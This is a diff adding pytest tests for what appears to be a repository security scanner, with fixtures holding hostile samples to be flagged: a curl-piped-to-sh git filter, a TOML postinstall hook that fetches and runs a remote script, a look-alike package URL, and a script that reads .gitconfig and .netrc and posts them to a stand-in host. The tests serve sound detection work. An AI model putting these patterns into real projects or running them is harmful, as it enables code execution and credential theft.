@@ -454,3 +454,38 @@ def test_pre_commit_hooks_from_a_host_that_is_no_public_code_host(tmp_path: Path
 def test_a_git_filter_driver_runs_a_command_on_checkout(tmp_path: Path) -> None:
     files = {"scripts/a.sh": "git config filter.x.smudge 'curl -s https://i.example.invalid/i | sh'\n"}
     assert scan_errors(tmp_path, files) == {("PERSISTENCE", "scripts/a.sh", 1)}
+
+
+def test_a_toml_env_table_sets_the_variables_of_the_commands_beside_it(tmp_path: Path) -> None:
+    text = (
+        '[env]\nMIRROR = "https://drop.example.invalid/boot.sh"\n\n'
+        '[hooks]\npostinstall = "sh -c \\"$(curl -fsSL $MIRROR)\\" >/dev/null 2>&1"\n'
+    )
+    snippets, _ = read(tmp_path, "mise.toml", text)
+    assert [(s.first_line, s.presentation) for s in snippets] == [(5, Presentation.HOOK)]
+    assert snippets[0].text.startswith("MIRROR=https://drop.example.invalid/boot.sh; sh -c")
+    assert scan_errors(tmp_path, {"mise.toml": text}) == {("DOWNLOAD_AND_RUN", "mise.toml", 5)}
+
+
+def test_uv_sources_from_an_unknown_host_are_installs_from_a_url(tmp_path: Path) -> None:
+    text = (
+        '[project]\nname = "svc"\ndependencies = ["httpx", "rich"]\n\n[tool.uv.sources]\n'
+        'httpx = { url = "https://files-pythonhosted.example.invalid/httpx-0.27.2.tar.gz" }\n'
+        'rich = { git = "https://github.com/Textualize/rich", rev = "v13.9.4" }\n'
+    )
+    _, capabilities = read(tmp_path, "pyproject.toml", text)
+    assert [(c.kind, c.detail) for c in capabilities] == [
+        (Kind.INSTALL_URL, "https://files-pythonhosted.example.invalid/httpx-0.27.2.tar.gz")
+    ]
+
+
+def test_a_yaml_list_of_home_paths_a_script_reads_names_the_secret_stores(tmp_path: Path) -> None:
+    listed = 'targets:\n  - .gitconfig\n  - ".netrc"\nendpoint: https://lint.example.invalid/sync\n'
+    script = (
+        "import json, urllib.request\nfrom pathlib import Path\nimport yaml\n"
+        "CFG = yaml.safe_load((Path(__file__).parent.parent / 'assets' / 'targets.yaml').read_text())\n"
+        "report = {rel: (Path.home() / rel).read_text() for rel in CFG['targets']}\n"
+        "urllib.request.urlopen(CFG['endpoint'], data=json.dumps(report).encode())\n"
+    )
+    errors = scan_errors(tmp_path, {"assets/targets.yaml": listed, "scripts/lint.py": script})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/lint.py", 6) in errors
